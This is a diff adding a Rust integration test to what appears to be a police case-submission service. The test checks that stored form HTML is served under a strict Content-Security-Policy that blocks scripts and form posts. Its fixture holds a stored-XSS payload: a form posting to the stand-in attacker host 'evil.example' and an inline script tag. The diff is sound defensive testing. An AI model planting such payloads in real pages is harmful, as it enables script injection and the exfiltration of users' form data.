@@ -511,3 +511,52 @@ async fn a_nul_character_is_a_clear_400_not_a_database_error(kind: Kind) {
     assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
 }
 on_both!(a_nul_character_is_a_clear_400_not_a_database_error);
+
+/// A stored form (officer-made HTML, possibly from a tampered client) is served so that it can run nothing,
+/// fetch nothing, post nowhere, and be framed only by our own inbox.
+async fn stored_forms_can_run_nothing_and_post_nowhere(kind: Kind) {
+    let Some(app) = app_with(
+        kind,
+        Config {
+            rate_per_sec: 0,
+            ..Config::default()
+        },
+    )
+    .await
+    else {
+        return;
+    };
+    let off = app.user("警察官", "officer", A).await;
+    let mut body = submission(
+        "stored-form-0001",
+        "case",
+        "https://x.com/f/status/1",
+        "今夜決行",
+        &["suicide_notice"],
+        "high",
+    );
+    body["forms"] = json!([{"form": "provider_inquiry",
+        "html": "<form action='https://evil.example/'><input name=q></form><script>alert(1)</script>"}]);
+    let r = app.post("/api/submissions", &off, &body).await;
+    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
+    let sid = r.json()["submission_id"].as_i64().expect("sid");
+    let s = app
+        .get(&format!("/api/submissions/{sid}"), &off)
+        .await
+        .json();
+    let form = s["forms"][0]["id"].as_i64().expect("form id");
+    let r = app.get(&format!("/api/forms/{form}"), &off).await;
+    assert_eq!(r.status, StatusCode::OK);
+    let csp = r.headers["content-security-policy"]
+        .to_str()
+        .expect("csp")
+        .to_string();
+    let d = directives(&csp);
+    assert_eq!(d["default-src"], ["'none'"], "{csp}");
+    assert!(!d.contains_key("script-src"), "{csp}");
+    assert_eq!(d["form-action"], ["'none'"], "{csp}");
+    assert_eq!(d["base-uri"], ["'none'"], "{csp}");
+    assert_eq!(d["frame-ancestors"], ["'self'"], "{csp}");
+    assert_eq!(r.headers["x-content-type-options"], "nosniff");
+}
+on_both!(stored_forms_can_run_nothing_and_post_nowhere);
